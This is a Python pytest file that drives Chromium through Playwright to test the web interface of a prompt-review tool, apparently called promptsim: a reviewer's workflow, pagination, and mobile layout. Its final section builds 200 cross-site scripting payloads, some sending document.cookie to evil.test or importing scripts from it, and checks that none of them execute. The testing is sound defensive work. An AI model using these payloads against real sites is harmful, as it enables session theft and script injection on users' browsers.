"""The page in a real browser: a reviewer's day, and strangers' text that must stay text.

Needs Chromium (Debian: apt-get install chromium; else name it with CHROMIUM=/path) and the package playwright.
"""

from __future__ import annotations

import os
import random
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import uvicorn
from web_samples import app_of, sends, simulated

from promptsim.engine.shared import SharedEngine

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
if CHROMIUM is None and not os.environ.get("CI"):
    pytest.skip("no Chromium: apt-get install chromium, or CHROMIUM=/path/to/it", allow_module_level=True)
PAYLOAD_COUNT = 200
CALLS = ("alert(1)", "confirm`1`", "prompt(document.cookie)", "fetch('//evil.test/'+document.cookie)",
         "import('//evil.test/x.js')", "location='//evil.test'", "top.alert(1)", "print()")  # fmt: skip
SHAPES = (
    "<script>{0}</script>", "<img src=//evil.test/i onerror=\"{0}\">", "\"><svg onload=\"{0}\">",
    "'><body onload='{0}'>",
    "<iframe srcdoc='<script>{0}</script>'>", "<a href=\"javascript:{0}\">family</a>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "<input autofocus onfocus=\"{0}\">", "<details open ontoggle=\"{0}\">x",
    "<div hx-get='//evil.test/' hx-trigger='load'>x</div>", "<b hx-on::load=\"{0}\" data-hx-get='//evil.test/'>x</b>",
    "{{{{ {0} }}}}{{% {0} %}}", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<base href=//evil.test/>", "<object data=//evil.test/o>",
    "\" autofocus onfocus=\"{0}\" x=\"", "' onmouseover='{0}' style='position:fixed;inset:0", "--><script>{0}</script>",
    "<math><mtext><script>{0}</script></mtext></math>", "\u202e<script>{0}</script>\u200b",
    "<form action=//evil.test><input name=x>",
    "<video src=//evil.test/v onerror=\"{0}\">",
)  # fmt: skip
PAYLOADS = [f"{shape.format(call)} {n}" for shape in SHAPES for n, call in enumerate(CALLS)]


@dataclass
class Watched:
    """What a browser did that it must not do."""

    base: str
    dialogs: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def watch(self, page: Page) -> None:
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on(
            "request", lambda request: None if request.url.startswith(self.base) else self.outside.append(request.url)
        )
        page.on("console", lambda message: self.complaints.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))

    def assert_clean(self) -> None:
        assert (self.dialogs, self.outside, self.complaints) == ([], [], [])


@contextmanager
def served(engine: SharedEngine) -> Iterator[str]:
    with closing(socket.socket()) as listening:
        listening.bind(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(app_of(engine), log_level="warning", lifespan="off"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.02)
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        server.should_exit = True
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield made
        made.close()


@contextmanager
def visit(browser: Browser, base: str, name: str, **options: Any) -> Iterator[tuple[Page, Watched]]:
    """A page of somebody who has logged in."""
    context = browser.new_context(**options)
    page, watched = context.new_page(), Watched(base)
    watched.watch(page)
    page.goto(base)
    page.fill("main [name=name]", name)
    page.click("main button[type=submit]")
    page.wait_for_selector("h1:has-text('Queue')")
    yield page, watched
    context.close()


def test_a_reviewers_day(browser: Browser, tmp_path: Path) -> None:
    """Log in, search, open a family by keyboard, give a verdict, undo it; then the network and one of its accounts."""
    with simulated(tmp_path / "home") as engine, served(engine) as base, visit(browser, base, "Ann") as (page, watched):
        family = next(one for one in engine.families() if one.network_ids)
        text = engine.members(family.family_id)[0].text
        page.keyboard.press("/")
        page.keyboard.type(" ".join(text.split())[:300])
        page.keyboard.press("Enter")
        page.wait_for_selector("table.hits")
        assert "text=" not in page.url
        page.click(f"table.hits a[href='/families/{family.family_id}'] >> nth=0")
        page.wait_for_selector("h1:has-text('Family')")
        page.keyboard.press("v")
        page.keyboard.press("Space")
        page.fill("textarea[name=reason]", "the same text from six accounts")
        page.click("text=/^Give verdict on/")
        page.wait_for_selector(".history li")
        assert engine.family(family.family_id).status == "coordinated"
        page.click(".undo summary")
        page.fill(".undo input[name=reason]", "a slip")
        page.click(".undo button")
        page.wait_for_selector(".history li:nth-child(2)")
        assert engine.family(family.family_id).status == "open"
        page.click("text=Compare >> nth=5")
        page.wait_for_selector("#compare mark")
        page.keyboard.press("u")
        page.wait_for_selector("h1:has-text('Queue')")
        for key in "jxjjx":  # mark two rows and look at what one verdict on them would touch
            page.keyboard.press(key)
        assert page.inner_text("[data-marked]") == "2 rows are marked."
        page.click(".bulk button")
        page.wait_for_selector("h1:has-text('One verdict on 2')")
        page.keyboard.press("u")
        page.wait_for_selector("h1:has-text('Queue')")
        page.select_option("select[name=kind]", "networks")
        page.wait_for_url("**/?kind=networks*")
        page.keyboard.press("Escape")
        page.keyboard.press("j")
        page.keyboard.press("j")
        page.keyboard.press("k")
        page.keyboard.press("Enter")
        page.wait_for_selector("h1:has-text('Network')")
        page.click("table.small a >> nth=0")
        page.wait_for_selector("#near table")
        watched.assert_clean()


def test_thousands_of_rows_are_reached_and_never_gather_in_one_page(browser: Browser, tmp_path: Path) -> None:
    words = [f"{a}{b}{c}" for a in "bdfgkl" for b in "aeiou" for c in "mnprst"]
    rng = random.Random(2)
    texts = [" ".join(rng.choices(words, k=30)) for _ in range(1_130)]
    with SharedEngine.share(tmp_path / "home") as engine, served(engine) as base:
        engine.ingest(sends(texts * 3, [f"a{i}" for i in range(997)]))
        engine.cluster()
        total = len(engine.families())
        assert total > 1_100
        with visit(browser, base, "Ann") as (page, watched):
            shown = 50
            while shown < 1_000:
                page.click("#more a")
                shown += 50
                page.wait_for_selector(f"[data-row]:nth-of-type({shown})", state="attached")
            page.click("#more a")  # a page of its own now
            page.wait_for_url("**/?*cursor=*")
            assert page.locator("[data-row]").count() == 50
            while page.locator("#more a").count():
                page.click("#more a")
                page.wait_for_timeout(150)
            assert page.locator("[data-row]").count() == total - 1_000
            watched.assert_clean()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_is_wider_than_a_phone(browser: Browser, hostile: tuple[SharedEngine, str], scheme: Any) -> None:
    engine, base = hostile
    size = {"width": 360, "height": 720}
    with visit(browser, base, "Ann", viewport=size, color_scheme=scheme) as (page, _):
        for path in pages_of(engine)[:12]:
            page.goto(base + path)
            wide = page.evaluate("document.documentElement.scrollWidth")
            assert wide <= 360, path


# ------------------------------------------------------------------ strangers' text
@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SharedEngine, str]]:
    """200 payloads, each a prompt's own text, a filling of a shared template, an account id and metadata."""
    with SharedEngine.share(tmp_path_factory.mktemp("hostile") / "home") as engine:
        lead = "You are an impartial grader of essays. Read what follows and give marks for style and for content.\n\n"
        accounts = [f"{payload} {i}" for i, payload in enumerate(PAYLOADS)]
        prompts = [lead + payload for payload in PAYLOADS] + PAYLOADS + [PAYLOADS[0], PAYLOADS[1]] * 20
        engine.ingest(sends(prompts, accounts, org_id=PAYLOADS[0], user_agent=PAYLOADS[1], ip=PAYLOADS[2]))
        engine.cluster()
        for payload in PAYLOADS[:3]:
            engine.review(engine.families()[0].family_id, verdict="unsure", reason=payload, by=payload[:40])
        with served(engine) as base:
            yield engine, base


def pages_of(engine: SharedEngine) -> list[str]:
    """Every kind of page, and every prompt and account with a payload."""
    from promptsim.web.rendering import address

    families = engine.families()
    paths = ["/", "/?status=any&sort=events", "/runs", "/verdicts", "/search", "/waiting", "/audit"]
    paths += [f"/families/{family.family_id}" for family in families[:8]]
    paths += [f"/networks/{network.network_id}" for network in engine.networks()[:3]]
    largest = max(families, key=lambda one: one.prompt_count)
    paths += [f"/families/{largest.family_id}?cursor={cursor}" for cursor in ("WzEyXQ", "WzUwXQ", "WzEwMF0")]
    ids = [account.account_id for account in engine.accounts()]
    assert len(ids) == PAYLOAD_COUNT
    paths += [address("/account", id=account_id) for account_id in ids]
    paths += [f"/prompts/{m.prompt_id}" for m in engine.members(largest.family_id, limit=60)]
    return paths


def test_two_hundred_payloads_stay_text(browser: Browser, hostile: tuple[SharedEngine, str]) -> None:
    """0 dialogs, 0 outside requests, 0 violations of the policy: nothing of theirs even tried to run."""
    engine, base = hostile
    assert len(set(PAYLOADS)) == PAYLOAD_COUNT
    with visit(browser, base, "<img src=x onerror=alert(1)>") as (page, watched):
        for path in pages_of(engine):
            assert page.goto(base + path, wait_until="load").status == 200, path  # type: ignore[union-attr]
        for payload in PAYLOADS[::8]:
            page.goto(base + "/search")
            page.fill(".ask textarea", payload)
            page.click(".ask button[type=submit]")
            page.wait_for_selector("table.hits")
        page.wait_for_timeout(300)
        planted = page.evaluate(
            "document.querySelectorAll('main script, main iframe, main img, main object, main base').length"
        )
        assert planted == 0
        watched.assert_clean()
